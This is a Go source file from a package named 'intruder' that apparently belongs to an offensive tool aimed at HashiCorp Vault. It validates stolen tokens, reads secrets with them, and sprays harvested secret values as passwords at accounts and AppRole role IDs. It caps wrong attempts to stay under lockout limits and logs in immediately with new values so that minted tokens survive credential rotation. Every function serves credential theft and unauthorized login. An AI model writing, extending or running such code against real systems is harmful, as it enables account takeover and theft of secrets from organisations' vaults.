package intruder

import (
	"context"
	"slices"
	"strings"
)

// maxWrongLogins is how many wrong values beyond the stolen one are risked at
// the end, at one account of one server. With those of quietAfter that may lock
// an account which nobody logs in to meanwhile; but where nothing new was read,
// nothing more is tried.
const maxWrongLogins = 2

// end hears once more with every token, then tries every value that was not
// stolen anyway: at the accounts whose place it was or that the secret names,
// and, if that opens nothing, at all others.
func (e *ear) end(ctx context.Context) {
	if !e.on {
		return
	}
	for _, t := range e.held() {
		a, _, _ := t.opener.call(ctx, "GET", "auth/token/lookup-self", t.value, nil)
		e.setAlive(t, a == accepted)
	}
	e.list(ctx)
	for _, t := range e.held() {
		for _, s := range e.secrets() {
			if t.alive && t.door.vault() == s.place.server {
				e.read(ctx, t, s, 0)
			}
		}
	}
	accounts, wrong := e.r.accounts(), map[string]int{}
	stolen := map[string]bool{}
	for _, a := range accounts {
		stolen[a.Password] = true
	}
	for _, v := range e.likely() {
		if stolen[v.text] {
			continue
		}
		near, far := e.candidates(v, accounts)
		e.present(ctx, v, near, wrong)
		if len(v.first.Opens) == 0 && v.first.New {
			e.present(ctx, v, far, wrong)
		}
	}
	e.endKept(ctx)
}

// likely are all values, those first that an account may have now: the newest
// of fields that are called like a secret.
func (e *ear) likely() []*value {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := slices.Clone(e.order)
	slices.Reverse(out)
	rank := func(v *value) (n int) {
		if !v.first.New {
			n += 2
		}
		if field := strings.ToLower(v.first.Field); !strings.Contains(field, "pass") && !strings.Contains(field, "secret") && !strings.Contains(field, "pw") {
			n++
		}
		return n
	}
	slices.SortStableFunc(out, func(a, b *value) int { return rank(a) - rank(b) })
	return out
}

// candidates are the accounts that a value probably belongs to, and the others.
func (e *ear) candidates(v *value, accounts []Stolen) (near, far []Stolen) {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, a := range accounts {
		held := e.values[digest(a.Password)]
		switch {
		case a.Password != "" && held != nil && slices.ContainsFunc(held.places, func(p place) bool { return slices.Contains(v.places, p) }):
			v.first.ID = a.ID
			near = append(near, a)
		case a.named(v.names, v.roles):
			near = append(near, a)
		default:
			far = append(far, a)
		}
	}
	for _, id := range v.roles {
		if !slices.ContainsFunc(near, func(a Stolen) bool { return a.RoleID == id }) {
			// A role that nobody told it of, in the secret itself.
			near = append(near, Stolen{ID: "the role beside it", Kind: AppRole, Mount: "approle", RoleID: id,
				Servers: []string{v.places[0].server.server}, CAPEM: v.places[0].server.ca})
		}
	}
	return near, far
}

// named says whether one of the names, or role ids, is the account's.
func (s Stolen) named(names, roles []string) bool {
	if s.RoleID != "" {
		return slices.Contains(roles, s.RoleID)
	}
	first, _, _ := strings.Cut(s.DN, ",")
	_, first, _ = strings.Cut(first, "=")
	return slices.ContainsFunc(names, func(n string) bool {
		return strings.EqualFold(n, s.DN) || strings.EqualFold(n, first) || s.User != "" && strings.EqualFold(n, s.User)
	})
}

// present tries a value at accounts, as long as none gets too many wrong ones.
func (e *ear) present(ctx context.Context, v *value, accounts []Stolen, wrong map[string]int) {
	for _, a := range accounts {
		a.Password = v.text
		for _, server := range a.Servers {
			at := a.ID + " " + server
			if wrong[at] >= maxWrongLogins {
				continue
			}
			switch e.r.tryOnce(ctx, a, server) {
			case accepted:
				e.mu.Lock()
				v.first.Opens = append(v.first.Opens, Opened{a.ID, server})
				e.mu.Unlock()
			case refused:
				wrong[at]++
			}
		}
	}
}

// tryNow logs in to Vault at once with a value that came new to where a login
// of the device lay: what that mints may outlive the rotation.
func (e *ear) tryNow(ctx context.Context, p place) {
	e.mu.Lock()
	var now []*value
	for _, v := range e.order {
		if v.first.New && !v.tried && slices.Contains(v.places, p) {
			v.tried = true
			now = append(now, v)
		}
	}
	e.mu.Unlock()
	for _, v := range now {
		near, _ := e.candidates(v, e.r.accounts())
		for _, a := range near {
			if !a.opensVault() {
				continue
			}
			a.Password = v.text
			for _, server := range a.Servers {
				e.r.tryOnce(ctx, a, server) // its token is taken like any other
			}
		}
	}
}
